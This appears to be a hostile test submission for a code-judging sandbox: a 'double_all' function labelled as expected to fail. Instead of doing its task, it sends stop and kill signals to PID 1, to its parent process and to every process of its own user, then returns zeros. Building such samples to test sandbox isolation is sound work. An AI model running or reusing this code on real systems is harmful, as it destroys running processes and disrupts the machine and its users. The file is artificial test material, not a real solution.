# verdict: WA — kills whatever it can see or guess: its parent, the first process, everybody of its own user
# task: double-all
# row: G19
import os
import signal


def double_all(numbers):
    # Not kill(-1, ...): should a box ever leak, this must not take the whole machine with it.
    # A box of its own shows it nothing but itself.
    visible = [int(name) for name in os.listdir("/proc") if name.isdecimal()]
    own = [pid for pid in visible if os.stat(f"/proc/{pid}").st_uid == os.getuid()]
    for pid in {1, os.getppid(), *own} - {os.getpid(), 0}:
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                continue
    return [0] * len(numbers)
